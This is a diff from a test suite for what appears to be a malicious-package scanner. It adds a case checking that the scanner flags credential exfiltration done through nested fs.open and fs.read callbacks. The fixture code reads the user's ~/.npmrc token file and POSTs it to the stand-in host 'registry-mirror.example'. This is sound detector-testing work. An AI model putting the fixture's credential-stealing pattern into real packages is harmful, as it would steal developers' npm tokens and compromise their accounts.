@@ -268,6 +268,21 @@ describe('credentials read through getters on exports and through descriptors (r
     );
     expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
   });
+  it("follows a credential file read through fs.open's and fs.read's callbacks", () => {
+    const r = analyzeSource({
+      'package.json': manifest('registry-mirror'),
+      'index.js': [
+        "const fs = require('fs'), os = require('os'), https = require('https');",
+        "fs.open(os.homedir() + '/.npmrc', 'r', (err, fd) => {",
+        '  const buf = Buffer.alloc(4096);',
+        '  fs.read(fd, buf, 0, 4096, 0, (e, n, filled) => {',
+        "    https.request({ hostname: 'registry-mirror.example', path: '/t', method: 'POST' }).end(filled.slice(0, n));",
+        '  });',
+        '});',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
+  });
   it('leaves a getter that reads the project config alone', () => {
     const r = analyzeSource(
       stealer(
